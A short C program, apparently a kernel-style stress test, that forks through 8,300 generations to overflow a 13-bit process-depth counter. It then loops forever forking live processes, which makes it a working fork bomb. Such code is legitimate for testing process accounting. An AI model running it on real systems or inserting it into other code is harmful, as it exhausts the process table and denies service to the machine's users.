// SPDX-License-Identifier: GPL-2.0-only
/*
 * A bomb that makes thousands of generations first, of which each exits: a depth that is counted in
 * 13 bits has come to its end. Then it is a chain in which all are alive.
 *
 *	(burrow) ── (burrow) ── … 8300 … ── burrow ── burrow …
 *
 * It breaks a tool that counts how deep a process is, and no further.
 */
#include <unistd.h>

#define GENERATIONS	8300

int main(void)
{
	int i;

	for (i = 0; i < GENERATIONS; i++) {
		pid_t pid;

		while ((pid = fork()) < 0)
			usleep(1000);
		if (pid)
			_exit(0);
	}
	for (;;)
		if (fork() > 0)
			for (;;)
				pause();
}
